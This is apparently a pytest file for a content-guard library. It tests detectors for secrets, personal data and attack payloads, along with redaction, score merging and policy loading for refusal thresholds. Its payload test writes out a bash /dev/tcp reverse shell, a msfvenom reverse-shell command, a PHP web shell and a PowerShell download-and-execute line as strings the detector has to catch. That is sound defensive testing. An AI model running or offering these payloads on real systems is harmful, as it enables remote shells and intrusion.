"""The rules, the policy file, and small arithmetic: high precision on security prose, checksums where there are any."""

import pytest

from guards import rules
from guards.errors import GuardFault, PolicyError
from guards.policy import Policy
from guards.scores import make, worst
from guards.verdict import Action, Stage, redact

CLEAN = """
Contact security@apache.org or user@example.com; see CVE-2021-44228, CWE-79, T1059.001 and 192.0.2.1:8443.
AKIAIOSFODNN7EXAMPLE is the key of the manual.
Set API_KEY=<your key>; never print sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.
Card 4111 1111 1111 1112 fails the check digit.
SHA-256 is e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.
<script>alert(1)</script> and ' OR 1=1 -- are the classic tests;
nc -lvnp 4444 listens; version 10.0.19045.3803, port 5432.
Call 555-0100 on 2024-10-24 between 10:00 and 12:30. -----BEGIN CERTIFICATE----- is public.
"""


def test_security_prose_passes():
    assert rules.secrets(CLEAN) == rules.personal_data(CLEAN) == rules.payloads(CLEAN) == ()


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("bob.miller@acme-corp.com", "EMAIL"),
        ("+49 170 123 4567", "PHONE"),
        ("(212) 867-5309", "PHONE"),
        ("4539 1488 0343 6467", "CARD"),
        ("DE89 3704 0044 0532 0130 00", "IBAN"),
    ],
)
def test_personal_data_is_found_exactly(text, label):
    assert rules.personal_data(f"see {text} there") == ((4, 4 + len(text), label),)


@pytest.mark.parametrize(
    "payload",
    [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "msfvenom -p windows/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4444 -f exe",
        "<?php system($_GET['c']); ?>",
        "IEX (New-Object Net.WebClient).DownloadString('http://h/a')",
        "\\x90" * 32,
    ],
)
def test_payloads_are_found(payload):
    assert len(rules.payloads(f"run {payload}")) >= 1


def test_redaction_melts_overlaps():
    assert redact("0123456789", ((2, 5, "A"), (4, 7, "B"), (8, 9, "C"))) == "01[A]7[C]9"


def test_scores_keep_the_graver_reading():
    both = worst([make(0.1, 0.9, 0.0, 0.0), make(0.7, 0.0, 0.6, 0.0)])
    assert (both.harmful, both.dual_use, both.override, both.educational) == (0.6, 0.3, 0.7, 0.1)
    assert both.sane
    assert worst([make(0.0, 0.0, 0.6, 0.0), make(0.0, 0.0, 0.0, 0.7)]).harm == 0.7  # not the sum of two texts


def test_more_of_another_harm_never_makes_a_refusal_a_lesson():
    """Cyber harm is refused from a lower score on, so a graver text of the other kind must not hide it."""
    policy = Policy.load()
    cyber, other = (policy.category(name) for name in ("harmful_operational", "other_harm"))
    assert worst([make(0.0, 0.0, cyber.threshold, 0.0)]).harmful == cyber.threshold
    hidden = worst([make(0.0, 0.0, cyber.threshold, 0.0), make(0.0, 0.0, 0.0, other.threshold - 0.01)])
    assert hidden.harmful >= cyber.threshold
    assert hidden.harmful > hidden.other_harm
    assert worst([make(0.0, 0.0, 0.2, 0.0), make(0.0, 0.0, 0.0, 0.9)]).other_harm == 0.9


def test_policy_says_what_the_terms_need(policy):
    assert {"dual_use", "harmful_operational", "other_harm", "override", "secret", "personal_data"} <= set(
        policy.categories
    )
    assert policy.budget == 0.01
    assert policy.category("dual_use").lesson == "authorised-testing"
    assert policy.unlocked("exploit_payload", frozenset({"dual_use"}))
    assert policy.unlocked("harmful_operational", frozenset({"dual_use"}))  # its band of doubt: REFUSE asks no pass
    assert not policy.unlocked("unreadable", frozenset(policy.categories))
    assert policy.category("override").action is Action.REFUSE
    assert policy.category("dual_use").reached(1.0, Stage.ANSWER)
    with pytest.raises(GuardFault):
        policy.category("nothing")


@pytest.mark.parametrize("text", ["", "[]", "version: 1", "version: '1'\ncanaries: ['(']\ncategories: {}", "\x00"])
def test_what_is_no_policy_is_refused(tmp_path, text):
    path = tmp_path / "policy.yaml"
    path.write_text(text)
    with pytest.raises(PolicyError):
        Policy.load(path)
    with pytest.raises(PolicyError):
        Policy.load(tmp_path / "absent.yaml")
